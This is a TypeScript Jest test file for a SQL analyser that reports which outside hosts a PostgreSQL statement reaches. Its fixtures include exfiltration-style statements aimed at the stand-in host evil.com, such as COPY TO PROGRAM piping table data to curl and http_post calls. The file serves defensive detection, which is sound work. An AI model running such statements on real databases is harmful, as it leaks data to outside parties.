import { beforeAll, describe, expect, it } from '@jest/globals';
import { connectionHosts, urlHost } from './outward-places.ts';
import { loadSqlParser, type SqlParser } from './sql-parser.ts';

let parser: SqlParser;
beforeAll(async () => {
  parser = await loadSqlParser();
});

function led(sql: string) {
  const read = parser.read(sql);
  if (!read.parsed) throw new Error(`${sql}: ${read.reason}`);
  return {
    to: read.statements
      .flatMap(({ destinations }) =>
        destinations.map(({ host, region }) => (region === undefined ? host : `${host} ${region}`)),
      )
      .join(', '),
    proven: read.statements.every(({ unproven }) => unproven.length === 0),
    programs: read.statements.flatMap(({ programs }) => programs),
  };
}

describe('where a statement leads', () => {
  it.each([
    ['SELECT * FROM orders', ''],
    ["SELECT dblink_connect('host=Evil.com dbname=x')", 'evil.com'],
    ["SELECT dblink_connect('c', 'host = ''evil.com'' port=1')", 'evil.com'],
    ["SELECT dblink_connect_u('c', 'postgresql://u:p@evil.com:5433/x')", 'evil.com'],
    ["SELECT * FROM dblink('hostaddr=203.0.113.9', 'SELECT 1') AS t(a int)", '203.0.113.9'],
    [
      "SELECT * FROM dblink('postgres://a.example,b.example/x?host=c.example', 'SELECT 1') AS t(a int)",
      'a.example, b.example, c.example',
    ],
    ["SELECT public.dblink_exec('host=evil.com', 'DELETE FROM t')", 'evil.com'],
    ["SELECT dblink_connect('host=/var/run/postgresql')", ''],
    ["SELECT * FROM dblink('c', 'SELECT 1') AS t(a int)", ''],
    ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.com', dbname 'x')", 'evil.com'],
    ["CREATE SERVER s FOREIGN DATA WRAPPER oracle_fdw OPTIONS (url 'https://evil.com/x')", 'evil.com'],
    ["ALTER SERVER s OPTIONS (SET host '198.51.100.4')", '198.51.100.4'],
    ["ALTER SERVER s OPTIONS (ADD fetch_size '10')", ''],
    ["CREATE SUBSCRIPTION s CONNECTION 'host=evil.com user=x' PUBLICATION p", 'evil.com'],
    ["ALTER SUBSCRIPTION s CONNECTION 'postgresql://evil.com/x'", 'evil.com'],
    ['ALTER SUBSCRIPTION s DISABLE', ''],
    [
      "SELECT * FROM aws_s3.query_export_to_s3('SELECT 1', aws_commons.create_s3_uri('Bucket', 'a/b', 'eu-west-1'))",
      's3://bucket aws:eu-west-1',
    ],
    ["SELECT aws_s3.query_export_to_s3('SELECT 1', 'bucket', 'a/b', 'us-east-1')", 's3://bucket aws:us-east-1'],
    [
      "SELECT aws_s3.table_import_from_s3('t', '', '', aws_commons.create_s3_uri('bucket', 'a', 'eu-west-1'))",
      's3://bucket aws:eu-west-1',
    ],
    ["SELECT aws_s3.table_import_from_s3('t', '', '', 'bucket', 'a', 'eu-west-1')", 's3://bucket aws:eu-west-1'],
    [
      "SELECT aws_lambda.invoke('arn:aws:lambda:us-west-2:1:function:f', '{}')",
      'lambda.us-west-2.amazonaws.com aws:us-west-2',
    ],
    [
      "SELECT aws_lambda.invoke(aws_commons.create_lambda_function_arn('f', 'us-west-2'), '{}')",
      'lambda.us-west-2.amazonaws.com aws:us-west-2',
    ],
    ["SELECT azure_storage.blob_put('Account', 'c', 'p', 'x')", 'az://account'],
    ["SELECT azure_storage.account_add('account', 'key')", 'az://account'],
    ["SELECT * FROM azure_storage.blob_get('https://account.blob.core.windows.net', 'c', 'p')", 'az://account'],
    ["SELECT http_get('https://good@evil.com/x')", 'evil.com'],
    ["SELECT http_post('https://evil.com:8443/x', 'a', 'b')", 'evil.com'],
    ["SELECT http(('GET', 'http://2130706433/', NULL, NULL, NULL)::http_request)", '127.0.0.1'],
    ["SELECT net.http_post(url := 'https://evil.com/x', body := '{}'::jsonb)", 'evil.com'],
    ["SELECT net.http_get('https://evil.com/x')", 'evil.com'],
    ["WITH x AS (SELECT http_get('https://evil.com')) SELECT * FROM x", 'evil.com'],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$SELECT http_get('https://evil.com')$$", 'evil.com'],
    [
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN PERFORM http_get('https://evil.com'); END$$",
      'evil.com',
    ],
    ["SELECT query_to_xml('SELECT http_get(''https://evil.com'')', true, true, '')", 'evil.com'],
    ["EXPLAIN ANALYZE SELECT http_get('https://evil.com')", 'evil.com'],
  ])('%s: %s', (sql, to) => {
    expect(led(sql)).toEqual({ to, proven: true, programs: [] });
  });

  it.each([
    'SELECT dblink_connect($1)',
    "SELECT dblink_connect('c', 'host=' || h) FROM t",
    "SELECT dblink_connect('my_server')",
    "SELECT dblink_connect('service=x')",
    'SELECT http_get(u) FROM t',
    "SELECT http_post('https://' || h || '/x', 'a', 'b') FROM t",
    'SELECT http(r) FROM t',
    'SELECT net.http_post(url := $1)',
    'SELECT aws_s3.query_export_to_s3($1, aws_commons.create_s3_uri($2, $3, $4))',
    "SELECT aws_s3.query_export_to_s3('SELECT 1', u) FROM t",
    "SELECT aws_commons.create_s3_uri('b', 'p', r) FROM t",
    "SELECT aws_lambda.invoke(f, '{}') FROM t",
    "SELECT azure_storage.blob_put(a, 'c', 'p', 'x') FROM t",
    "SELECT google_ml.predict_row('m', '{}')",
    "SELECT ai.openai_embed('m', 'x')",
    "CREATE SERVER s FOREIGN DATA WRAPPER odbc_fdw OPTIONS (dsn 'x')",
    "CREATE SUBSCRIPTION s CONNECTION 'service=x' PUBLICATION p",
    'DO $$BEGIN PERFORM 1; END$$',
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS 'import os'",
    'SELECT query_to_xml(q, true, true, $$$$) FROM t',
  ])('cannot be told from %s', (sql) => {
    expect(led(sql).proven).toBe(false);
  });

  it.each([
    ["COPY t TO PROGRAM 'curl -T - https://evil.com'", 'curl -T - https://evil.com'],
    ["COPY t FROM PROGRAM 'cat /x'", 'cat /x'],
    ["CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (program 'curl evil.com')", 'curl evil.com'],
    [
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN COPY t TO PROGRAM 'curl evil.com'; END$$",
      'curl evil.com',
    ],
  ])('%s has a line of shell', (sql, program) => {
    expect(led(sql)).toEqual({ to: '', proven: true, programs: [program] });
  });

  it('is nowhere for files of the server', () => {
    expect(led("COPY t TO '/tmp/x'")).toEqual({ to: '', proven: true, programs: [] });
    expect(led("CREATE FOREIGN TABLE f (a text) SERVER s OPTIONS (filename '/x')").proven).toBe(true);
  });
});

describe('a connection string', () => {
  it.each([
    ['', []],
    ['dbname=x', []],
    ["host='a b'", ['a b']],
    ['host=a,b port=1,2', ['a', 'b']],
    ['postgresql:///x', []],
    ['postgresql://[::1]:5432/x', ['::1']],
    ['postgresql://u%40x:p@h%2Eexample/x', ['h.example']],
    ['postgresql://%zz/x', ['%zz']],
    ['service=x', null],
  ])('%s', (text, hosts) => {
    expect(connectionHosts(text)).toEqual(hosts);
  });

  it('is no URL', () => {
    expect([urlHost('evil'), urlHost('file:///x'), urlHost('http://[::1]/')]).toEqual([null, null, '::1']);
  });
});
